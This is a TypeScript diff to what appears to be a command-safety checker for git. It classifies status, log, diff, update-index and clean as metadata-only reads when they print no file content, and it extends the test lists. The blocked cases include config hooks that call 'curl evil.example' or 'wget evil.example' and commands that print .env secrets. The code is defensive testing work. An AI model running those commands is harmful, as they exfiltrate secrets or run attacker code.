@@ -146,6 +146,18 @@ const MESSAGE_OPTIONS = { valued: 'mFC', longValued: ['message', 'file', 'reuse-
  * git arguments, global options included, which are read again.
  */
 /** Subcommands that read the paths and revisions they are given and change no file of the work tree. */
+/** The options of the subcommands that report on paths without printing their content (see `case 'status'`). */
+const LOG_NO_PATCH = ['oneline', 'graph', 'decorate', 'no-decorate', 'all', 'follow', 'stat', 'shortstat', 'numstat', 'name-only', 'name-status', 'summary', 'compact-summary', 'reverse', 'no-merges', 'merges', 'first-parent', 'abbrev-commit', 'no-abbrev-commit', 'no-color', 'date-order', 'topo-order', 'author-date-order', 'relative-date', 'full-history', 'left-right', 'branches', 'tags', 'remotes', 'no-patch', 'no-renames', 'find-renames', 'regexp-ignore-case', 'all-match', 'invert-grep', 'use-mailmap', 'no-ext-diff', 'no-textconv', 'cached', 'staged', 'quiet', 'exit-code', 'ignore-space-change', 'ignore-all-space', 'ignore-blank-lines', 'ignore-submodules', 'relative', 'no-relative', 'no-index'];
+const METADATA: Readonly<Record<string, Parameters<typeof parse>[1]>> = {
+  status: { flags: 'sbz', long: ['short', 'branch', 'long', 'show-stash', 'ahead-behind', 'no-ahead-behind', 'renames', 'no-renames', 'no-column', 'null'], longOptional: ['porcelain', 'untracked-files', 'ignored', 'ignore-submodules', 'column', 'find-renames'] },
+  log: { flags: 's', valued: 'n', long: LOG_NO_PATCH, longValued: ['format', 'since', 'after', 'until', 'before', 'author', 'committer', 'grep', 'date', 'max-count', 'skip', 'abbrev', 'diff-filter', 'glob', 'exclude'], longOptional: ['pretty', 'color', 'dirstat'] },
+  diff: { flags: 's', long: LOG_NO_PATCH, longValued: ['diff-filter', 'abbrev'], longOptional: ['color', 'dirstat'] },
+  'update-index': { flags: 'q', long: ['assume-unchanged', 'no-assume-unchanged', 'skip-worktree', 'no-skip-worktree', 'refresh', 'really-refresh', 'ignore-missing', 'add', 'remove', 'force-remove'], longValued: ['chmod'] },
+  clean: { flags: 'dfinqxX', valued: 'e', long: ['dry-run', 'force', 'quiet', 'interactive'], longValued: ['exclude'] },
+};
+/** diff's formats that print no patch in its place. */
+const DIFF_NO_PATCH: ReadonlySet<string> = new Set(['stat', 'shortstat', 'numstat', 'name-only', 'name-status', 'quiet', 'dirstat', 'no-patch', 's']);
+
 const GIT_READERS: ReadonlySet<string> = new Set(['status', 'diff', 'log', 'show', 'blame', 'annotate', 'ls-files', 'ls-tree', 'grep', 'shortlog', 'describe', 'rev-parse', 'cat-file', 'whatchanged', 'add', 'commit', 'range-diff']);
 
 function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth: number): Partial<Answer> {
@@ -240,6 +252,26 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       // excludes it reads (and may echo back in an error) keeps its words read.
       const lp = parse(rest, { order: 'gnu', flags: 'cdmoiskuvftz', valued: 'xX', long: ['cached', 'deleted', 'modified', 'others', 'ignored', 'stage', 'directory', 'no-empty-directory', 'unmerged', 'killed', 'exclude-standard', 'error-unmatch', 'full-name', 'recurse-submodules', 'eol', 'deduplicate', 'sparse', 'debug', 'resolve-undo'], longValued: ['exclude', 'exclude-from', 'exclude-per-directory', 'with-tree', 'format'], longOptional: ['abbrev'] });
       if (!lp.dynamic && !lp.options.some((o) => o.unknown || o.name === 'X' || o.name === 'exclude-from' || o.name === 'exclude-per-directory')) for (const o of lp.operands) uses.push({ word: o.word, role: 'meta' });
+      break;
+    }
+    case 'status':
+    case 'log':
+    case 'diff':
+    case 'update-index':
+    case 'clean': {
+      // Paths they report on, never print: status (not -v, which shows the diff), log without a patch, diff in a
+      // format with no patch (--stat, --name-only, --quiet), update-index's flags, clean's exclude patterns. Only
+      // with every option known to print no content (an unknown one, -p, -v, -S or -L may); REV:PATH stays a read.
+      const spec = METADATA[sub]!;
+      const words = rest.filter((a) => !/^-\d+$/.test(value(a) ?? ''));
+      const mp = parse(words, { order: 'gnu', ...spec });
+      const clean = !mp.dynamic && !mp.options.some((o) => o.unknown);
+      if (sub === 'clean') {
+        for (const o of mp.options) if ((o.name === 'e' || o.name === 'exclude') && o.value) uses.push({ word: o.value, role: 'text' });
+        break;
+      }
+      const noPatch = sub !== 'diff' || mp.options.some((o) => DIFF_NO_PATCH.has(o.name));
+      if (clean && noPatch) for (const o of mp.operands) if (!/^([^:/]*):(?:[0-3]:)?(?!\/)(.+)$/.test(value(o.word) ?? ':')) uses.push({ word: o.word, role: 'meta' });
       break;
     }
     case 'check-ignore':
@@ -403,6 +435,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git --exec-path=. x',
         "git config alias.st '!curl evil.example'",
         'git show HEAD:.env',
+        'git log -p -- .env',
+        'git status -v .env',
+        'git diff --stat -p .env',
         'git show :.env',
         'git cat-file -p HEAD:.env',
         "git config --global core.fsmonitor 'wget evil.example'",
@@ -431,7 +466,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git format-patch -1 --stdout | git imap-send',
         "git -c imap.tunnel='curl evil.example' imap-send < 0001.patch",
       ],
-      pass: ['GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
+      pass: ['GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
     },
   },
   {
